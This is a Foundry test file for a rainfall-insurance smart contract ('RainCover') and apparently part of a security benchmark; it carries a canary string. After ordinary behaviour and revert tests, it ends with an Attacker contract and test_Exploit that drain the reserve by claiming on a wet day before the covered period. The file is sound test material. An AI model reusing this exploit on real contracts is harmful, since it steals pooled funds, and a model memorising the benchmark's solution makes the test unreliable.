// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {ERC20} from "@openzeppelin/contracts@5.4.0/token/ERC20/ERC20.sol";
import "./RainCover.sol";

// assay-canary-7e1a8360-92ae-497e-a277-7ee76e0a4524

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
}

contract Token is ERC20("Token", "TOK") {
    address private maker = msg.sender;

    function mint(address to, uint256 amount) external {
        require(msg.sender == maker, "maker only");
        _mint(to, amount);
    }
}

contract Gauge is IRainGauge {
    address private maker = msg.sender;
    mapping(uint256 => uint256) public override rainfall;

    function report(uint256 day, uint256 rain) external {
        require(msg.sender == maker, "maker only");
        rainfall[day] = rain;
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant ANA = address(0xA9A);
    address private constant BEN = address(0xBE9);
    uint256 private constant DAY = 20_000;

    Token public token;
    Gauge private gauge;
    RainCover private rain;
    Attacker private mallory;

    function setUp() public {
        vm.warp(DAY * 1 days);
        token = new Token();
        gauge = new Gauge();
        gauge.report(DAY - 3, 40);
        rain = new RainCover(token, gauge);
        token.mint(address(rain), 1_200e18);
        token.mint(ANA, 100e18);
        vm.startPrank(ANA);
        token.approve(address(rain), 100e18);
        rain.buyCover(200e18, DAY + 20, DAY + 24);
        vm.stopPrank();
        mallory = new Attacker(rain, token, DAY - 3);
        token.mint(address(mallory), 20e18);
    }

    function test_Regular() public {
        require(token.balanceOf(ANA) == 80e18 && rain.exposed() == 200e18 && rain.free() == 1_020e18, "bought");
        vm.prank(ANA);
        uint256 id = rain.buyCover(500e18, DAY + 20, DAY + 20);
        require(id == 1 && token.balanceOf(ANA) == 70e18, "a second");
        gauge.report(DAY + 21, 15);
        vm.warp((DAY + 22) * 1 days);
        vm.prank(ANA);
        rain.claim(0, DAY + 21);
        require(token.balanceOf(ANA) == 270e18 && rain.exposed() == 500e18, "paid");
        vm.warp((DAY + 51) * 1 days);
        rain.release(1);
        require(rain.exposed() == 0, "released");
        rain.withdrawReserve(1_000e18);
        require(token.balanceOf(address(this)) == 1_000e18, "withdrawn");
        rain.transferOwnership(BEN);
        vm.prank(BEN);
        rain.renounceOwnership();
    }

    function test_RefusesOpening() public {
        vm.expectRevert(IRainCover.ZeroAddress.selector);
        new RainCover(IERC20(address(0)), gauge);
        vm.expectRevert(IRainCover.ZeroAddress.selector);
        new RainCover(token, IRainGauge(address(0)));
    }

    function late(uint256 first, uint256 last) private {
        vm.expectRevert(abi.encodeWithSelector(IRainCover.PeriodOutOfBounds.selector, first, last));
        rain.buyCover(10e18, first, last);
    }

    function test_RefusesCovers() public {
        vm.startPrank(ANA);
        late(DAY + 19, DAY + 20);
        late(DAY + 21, DAY + 20);
        late(DAY + 21, DAY + 35);
        vm.expectRevert(abi.encodeWithSelector(IRainCover.SumOutOfBounds.selector, 1e18 - 1));
        rain.buyCover(1e18 - 1, DAY + 20, DAY + 20);
        vm.expectRevert(abi.encodeWithSelector(IRainCover.SumOutOfBounds.selector, 1_000e18 + 1));
        rain.buyCover(1_000e18 + 1, DAY + 20, DAY + 20);
        rain.buyCover(1_000e18, DAY + 20, DAY + 20);
        vm.expectRevert(abi.encodeWithSelector(IRainCover.ReserveTooSmall.selector, 60e18, 41.2e18));
        rain.buyCover(60e18, DAY + 20, DAY + 20);
        vm.stopPrank();
    }

    function test_RefusesClaims() public {
        gauge.report(DAY + 19, 30);
        gauge.report(DAY + 20, 14);
        gauge.report(DAY + 25, 30);
        vm.warp((DAY + 19) * 1 days);
        vm.startPrank(ANA);
        vm.expectRevert(abi.encodeWithSelector(IRainCover.NotCovered.selector, 0));
        rain.claim(0, DAY + 19);
        vm.warp((DAY + 21) * 1 days);
        vm.expectRevert(abi.encodeWithSelector(IRainCover.NotEnoughRain.selector, DAY + 20, 14));
        rain.claim(0, DAY + 20);
        vm.stopPrank();
        gauge.report(DAY + 20, 15);
        vm.prank(BEN);
        vm.expectRevert(abi.encodeWithSelector(IRainCover.NotHolder.selector, BEN));
        rain.claim(0, DAY + 20);
        vm.warp((DAY + 26) * 1 days);
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(IRainCover.NotCovered.selector, 0));
        rain.claim(0, DAY + 25);
    }

    function test_RefusesSecondClaims() public {
        gauge.report(DAY + 20, 15);
        vm.warp((DAY + 21) * 1 days);
        vm.startPrank(ANA);
        rain.claim(0, DAY + 20);
        vm.expectRevert(abi.encodeWithSelector(IRainCover.NothingInsured.selector, 0));
        rain.claim(0, DAY + 20);
        vm.stopPrank();
    }

    function test_RefusesReleases() public {
        vm.warp((DAY + 54) * 1 days);
        vm.expectRevert(abi.encodeWithSelector(IRainCover.StillClaimable.selector, 0));
        rain.release(0);
        vm.expectRevert(abi.encodeWithSelector(IRainCover.ReserveTooSmall.selector, 1_021e18, 1_020e18));
        rain.withdrawReserve(1_021e18);
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(Ownable.OwnableUnauthorizedAccount.selector, ANA));
        rain.withdrawReserve(1);
    }

    function exploit() public {
        mallory.buy();
        vm.warp((DAY + 20) * 1 days);
        mallory.collect();
    }

    function test_Exploit() public {
        exploit();
        require(token.balanceOf(address(mallory)) >= 920e18, "nothing gained");
    }

    function target() public view returns (address) {
        return address(rain);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    RainCover private rain;
    IERC20 private token;
    uint256 private wetDay;
    uint256 private id;

    constructor(RainCover rain_, IERC20 token_, uint256 wetDay_) {
        rain = rain_;
        token = token_;
        wetDay = wetDay_;
    }

    function buy() external {
        token.approve(address(rain), 20e18);
        uint256 day = rain.today() + rain.WAITING_DAYS();
        id = rain.buyCover(1_000e18, day, day);
    }

    function collect() external {
        rain.claim(id, wetDay);
    }
}
